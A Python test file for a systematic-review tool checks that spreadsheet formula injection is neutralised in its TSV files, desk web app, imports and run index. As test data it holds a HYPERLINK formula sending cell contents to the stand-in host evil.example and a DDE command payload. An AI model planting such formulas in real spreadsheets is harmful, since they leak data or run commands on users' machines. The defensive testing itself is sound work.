"""Spreadsheet formula injection (OWASP "CSV Injection"): every TSV a person may open in a
spreadsheet stores a would-be formula as text, and every reader gives back what was typed.

The rule is one pair of functions, :func:`livingreview.io.spreadsheet_cell` and
:func:`livingreview.io.read_cell`, used by the workflow's writer and reader
(:func:`~livingreview.io.write_tsv`, :func:`~livingreview.io.parse_tsv`) and by the desk's sheet
editor (:class:`livingreview.desk.humanfiles.TsvDocument`). See docs/security.md.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
from pathlib import Path

import pytest
from desk_support import TA_HEADER, form_cells, make_project, pid, pinned_clock, sign_in
from extraction_rows import TACROLIMUS_ARM
from markupsafe import escape

from livingreview.dedup.tables import deduplicate_files
from livingreview.dedup.verdicts import VERDICT_COLUMNS
from livingreview.desk.app import create_app
from livingreview.desk.humanfiles import TsvDocument
from livingreview.imports.stage import write_import
from livingreview.io import (
    FORMULA_STARTS,
    parse_tsv,
    read_cell,
    read_rows,
    read_tsv,
    spreadsheet_cell,
    write_tsv,
)
from livingreview.records import RECORD_COLUMNS

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'

#: What a spreadsheet may take as the start of a formula (OWASP's list, the full-width forms,
#: whitespace before them).
HOSTILE_PREFIXES = [
    *FORMULA_STARTS,
    "\t",
    "\r",
    "\n",
    " =",
    "\u3000＝",
]
HARMLESS_PREFIXES = ["", "a", "'", "''", "1", "(", '"', " ", "%", "|", "é", "\u00a0"]
TAILS = ["", "1", "1+1", "cmd|' /c calc'!A0", "SUM(A1:A9)", "mention", " 20 7946 0958", "'", "x'"]


def values() -> list[str]:
    """Many cells: every mix of up to two leading quotes, a prefix and a tail."""
    out = {EVIL, "-1", "-0.35", "+44 20 7946 0958", "@mention", "'", "''", "", "-", "+", "@"}
    for quotes, prefix, tail in itertools.product(
        ["", "'", "''", "'''"], HOSTILE_PREFIXES + HARMLESS_PREFIXES, TAILS
    ):
        out.add(quotes + prefix + tail)
    return sorted(out)


def is_plain_number(text: str) -> bool:
    """A number as a spreadsheet reads it (ASCII digits, an optional sign and exponent)."""
    try:
        float(text)
    except ValueError:
        return False
    return text.isascii() and text.strip() == text and "n" not in text.lower()


def looks_like_a_formula(cell: str) -> bool:
    """Would a spreadsheet start a formula at this cell (OWASP's first characters)?"""
    stripped = cell.lstrip(" \u3000\u00a0")
    return bool(cell) and (
        cell[0] in "\t\r\n" or (stripped[:1] != "" and stripped[0] in FORMULA_STARTS)
    )


# --------------------------------------------------------------------------- the rule


def test_every_value_reads_back_exactly_and_no_written_cell_starts_a_formula():
    cases = values()
    assert len(cases) > 800
    not_back = [v for v in cases if read_cell(spreadsheet_cell(v)) != v]
    assert not_back == []
    formulas = [
        spreadsheet_cell(v)
        for v in cases
        if looks_like_a_formula(spreadsheet_cell(v)) and not is_plain_number(v)
    ]
    assert formulas == []
    signed = {v for v in cases if is_plain_number(v) and v[0] in "+-"}
    assert signed == {"-1", "-0.35", "+1"}
    assert {spreadsheet_cell(v) for v in signed} == signed  # numbers stay numbers


def test_a_would_be_formula_gets_one_quote_and_a_quote_before_one_gets_one_more():
    assert spreadsheet_cell(EVIL) == "'" + EVIL
    assert spreadsheet_cell("@mention") == "'@mention"
    assert spreadsheet_cell("+44 20 7946 0958") == "'+44 20 7946 0958"
    assert spreadsheet_cell("\t=1") == "'\t=1"
    assert spreadsheet_cell("\r") == "'\r"
    assert spreadsheet_cell("＝1+1") == "'＝1+1"
    assert spreadsheet_cell("'=1+1") == "''=1+1"
    assert spreadsheet_cell("''@x") == "'''@x"
    # a quote before anything else is text already: stored as typed, read as stored
    for value in ("'Mad cow' disease", "'", "''", "o'clock", "co-trimoxazole", "-"):
        assert read_cell(spreadsheet_cell(value)) == value
    assert spreadsheet_cell("'Mad cow' disease") == "'Mad cow' disease"


@pytest.mark.parametrize("number", ["-1", "-0.35", "+2", "-1.5e-3", "-.5", "-0", "1e5", "-12."])
def test_a_plain_number_stays_a_number(number):
    assert spreadsheet_cell(number) == number
    assert read_cell(number) == number


def test_numbers_given_as_numbers_stay_numbers_and_none_and_nan_are_empty():
    assert [spreadsheet_cell(v) for v in (-1, -0.35, 0, None, float("nan"))] == [
        "-1",
        "-0.35",
        "0",
        "",
        "",
    ]


@pytest.mark.parametrize("text", ["-1 (95% CI -2 to 0)", "-inf", "+", "-", "--1", "-1-1", "+1+1"])
def test_text_after_a_sign_is_not_a_number_and_is_neutralised(text):
    assert spreadsheet_cell(text) == "'" + text
    assert read_cell(spreadsheet_cell(text)) == text


def test_a_formula_start_typed_by_hand_without_a_quote_reads_as_typed():
    """What a spreadsheet saves after someone typed '=1+1 (text) is =1+1: that is the value."""
    for typed in ("=1+1", "@x", "+44 1", "-x", "'Mad cow'"):
        assert read_cell(typed) == typed


# --------------------------------------------------------------------------- the files


def test_write_tsv_and_read_tsv_round_trip_every_value(tmp_path):
    cells = [v for v in values() if not any(ch in v for ch in "\t\r\n")]
    rows = [{"id": str(i), "value": v} for i, v in enumerate(cells)]
    path = tmp_path / "table.tsv"
    write_tsv(path, rows, ["id", "value"])
    assert [r["value"] for r in read_rows(path)] == cells
    raw = list(csv.reader(io.StringIO(path.read_text(), newline=""), delimiter="\t"))[1:]
    assert all(not looks_like_a_formula(v) or is_plain_number(v) for _, v in raw)
    assert [str(cells.index(EVIL)), "'" + EVIL] in raw


def test_tabs_and_newlines_become_spaces_and_the_flattened_value_is_neutralised(tmp_path):
    path = tmp_path / "table.tsv"
    write_tsv(path, [{"a": "\t=1+1", "b": "x\r\ny", "c": "\n@x"}], ["a", "b", "c"])
    assert path.read_text().splitlines()[1] == "' =1+1\tx y\t' @x"
    assert read_rows(path) == [{"a": " =1+1", "b": "x y", "c": " @x"}]


def test_parse_tsv_reads_neutralised_cells_as_typed_but_never_the_header():
    table = parse_tsv(b"'=h\tnote\nr1\t'=1+1\nr2\t''@x\n", "s.tsv")
    assert table.columns == ["'=h", "note"]
    assert [r["note"] for r in table.rows] == ["=1+1", "'@x"]


def test_the_desk_document_reads_and_writes_by_the_same_rule():
    text = TA_HEADER + "a:1\tinclude\t\t'=1+1\t2026-01-01\n" + 'a:2\tmaybe\t\t"\'@x, y"\t\n'
    document = TsvDocument.parse(text)
    assert [cells["note"] for _, cells in document.rows()] == ["=1+1", "@x, y"]
    assert document.text() == text  # rows left alone stay byte for byte
    document.append({"record_id": "a:3", "decision": "maybe", "note": EVIL})
    document.append({"record_id": "a:4", "decision": "maybe", "note": "-0.35"})
    lines = document.text().splitlines()
    assert lines[3].split("\t")[3] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"'
    assert lines[4].split("\t")[3] == "-0.35"
    again = TsvDocument.parse(document.text())
    assert [cells["note"] for _, cells in again.rows()] == ["=1+1", "@x, y", EVIL, "-0.35"]
    assert [r["note"] for r in parse_tsv(document.text(), "s.tsv").rows] == [
        "=1+1",
        "@x, y",
        EVIL,
        "-0.35",
    ]


# --------------------------------------------------------------------------- the desk


@pytest.fixture
def project(tmp_path) -> Path:
    return make_project(
        tmp_path / "project",
        n=8,
        full_text=[6],
        new_studies={"smith-2025": (6,)},
    )


@pytest.fixture
def app(project, tmp_path):
    return create_app(project, clock=pinned_clock, state_dir=tmp_path / "state")


def test_a_desk_note_is_stored_neutralised_and_shown_as_typed(app, project):
    client, csrf = sign_in(app, "reviewer-1")
    response = client.post(
        f"/screen/title_abstract/record/{pid(1)}",
        data={"csrf": csrf, "decision": "include", "note": EVIL},
        follow_redirects=False,
    )
    assert response.status_code == 303
    sheet = project / "resources" / "screening" / "title_abstract" / "reviewer-1.tsv"
    [row] = list(csv.DictReader(io.StringIO(sheet.read_text(), newline=""), delimiter="\t"))
    assert row["note"] == "'" + EVIL  # what Excel or LibreOffice shows as text
    assert [r["note"] for r in read_tsv(sheet)] == [EVIL]  # what the workflow reads
    journal = project / "resources" / "screening" / "journal.jsonl"
    [entry] = [json.loads(line) for line in journal.read_text().splitlines()]
    assert entry["after"]["note"] == EVIL  # the journal keeps what was typed (JSON, not a sheet)
    for page in (
        client.get(f"/screen/title_abstract/record/{pid(1)}").text,
        client.get("/screen/title_abstract/decisions").text,
    ):
        assert str(escape(EVIL)) in page
        assert str(escape("'" + EVIL)) not in page  # no visible quote


def test_a_sheet_saved_back_by_a_spreadsheet_keeps_the_note_and_an_edit_keeps_it(app, project):
    """The person opened the desk's sheet in a spreadsheet and saved it (the quote kept as
    text): the desk shows the note as typed, and changing the decision keeps it."""
    sheet = project / "resources" / "screening" / "title_abstract" / "reviewer-1.tsv"
    sheet.write_text(TA_HEADER + f"{pid(1)}\tmaybe\t\t'@mention me\t2026-11-20\n")
    client, csrf = sign_in(app, "reviewer-1")
    page = client.get(f"/screen/title_abstract/record/{pid(1)}").text
    assert ">@mention me</textarea>" in page
    client.post(
        f"/screen/title_abstract/record/{pid(1)}",
        data={"csrf": csrf, "decision": "include", "note": "@mention me"},
        follow_redirects=False,
    )
    assert sheet.read_text().splitlines()[1] == f"{pid(1)}\tinclude\t\t'@mention me\t2026-11-23"


def test_an_extraction_cell_is_stored_neutralised_and_read_back_as_typed(app, project):
    client, csrf = sign_in(app, "extractor-1")
    arm = {**TACROLIMUS_ARM, "adverse_events": EVIL, "co_medication": "-"}
    response = client.post(
        "/extract/smith-2025",
        data={"csrf": csrf, "version": "absent", "op": "save", **form_cells([arm])},
        follow_redirects=False,
    )
    assert response.status_code == 303, response.text
    sheet = project / "resources" / "extraction" / "smith-2025" / "extractor-1.tsv"
    [row] = list(csv.DictReader(io.StringIO(sheet.read_text(), newline=""), delimiter="\t"))
    assert row["adverse_events"] == "'" + EVIL and row["co_medication"] == "'-"
    assert row["n"] == TACROLIMUS_ARM["n"]
    [cells] = read_rows(sheet)
    assert cells["adverse_events"] == EVIL and cells["co_medication"] == "-"
    page = client.get("/extract/smith-2025").text
    assert f">{escape(EVIL)}</textarea>" in page
    assert str(escape("'" + EVIL)) not in page


# --------------------------------------------------------------------------- the workflow's tables


RIS = """TY  - JOUR
DB  - Embase
AN  - 900000001
T1  - =HYPERLINK("http://evil.example/?x="&A1,"Tacrolimus in autoimmune hepatitis")
A1  - Smith J.
Y1  - 2024//
JF  - @Journal of Hepatology
DO  - 10.1000/evil.1
ER  - 

TY  - JOUR
DB  - Embase
AN  - 900000002
T1  - -Omics of cyclosporine response in autoimmune hepatitis
A1  - Lee K.
Y1  - 2023//
JF  - +Hepatology Reports
ER  - 
"""


def test_an_imported_title_starting_a_formula_reaches_unique_tsv_neutralised(tmp_path):
    export = tmp_path / "embase.ris"
    export.write_text(RIS)
    records = tmp_path / "results" / "imports" / "embase" / "2024-06-30" / "records.tsv"
    spec = {
        "database": "embase",
        "search_date": "2024-06-30",
        "format": "ris",
        "dialect": "embase",
        "files": [str(export)],
    }
    write_import(spec, records, records.with_name("summary.json"))
    verdicts = tmp_path / "verdicts.tsv"
    write_tsv(verdicts, [], VERDICT_COLUMNS)
    out = tmp_path / "results" / "records"
    deduplicate_files(
        [records],
        verdicts,
        {"source_priority": ["pubmed", "embase"]},
        unique=out / "unique.tsv",
        duplicates=out / "duplicates.tsv",
        maybe=out / "maybe.tsv",
        runs=out / "runs.tsv",
    )
    for path in (records, out / "unique.tsv"):
        raw = list(csv.DictReader(io.StringIO(path.read_text(), newline=""), delimiter="\t"))
        assert {r["title"][:2] for r in raw} == {"'=", "'-"}, path
        assert {r["journal"][:2] for r in raw} == {"'@", "'+"}, path
        for r in raw:
            assert not any(looks_like_a_formula(v) for v in r.values()), (path, r)
    read = {r["title"]: r["journal"] for r in read_tsv(out / "unique.tsv")}
    assert read == {
        '=HYPERLINK("http://evil.example/?x="&A1,"Tacrolimus in autoimmune hepatitis")': (
            "@Journal of Hepatology"
        ),
        "-Omics of cyclosporine response in autoimmune hepatitis": "+Hepatology Reports",
    }
    assert set(RECORD_COLUMNS) <= set(read_tsv(records)[0])


def test_the_run_index_neutralises_a_formula_and_reads_it_back_as_written(tmp_path):
    """results/runs/index.tsv is a table people open too: a run whose one-line error starts a
    formula is listed with the quote and read back without it."""
    from livingreview.runs.registry import RunEntry, list_runs, new_run_id, record_run

    runs = tmp_path / "runs"
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    run_id = new_run_id("manual")
    record_run(RunEntry(run_id, "manual", "2026-11-23", "x", status="failed", error=hostile), runs)
    text = (runs / "index.tsv").read_text(encoding="utf-8")
    [_, cells] = list(csv.reader(io.StringIO(text), delimiter="\t"))
    assert cells[-1] == "'" + hostile
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    [row] = list_runs(runs)
    assert row["error"] == hostile and row["run_id"] == run_id
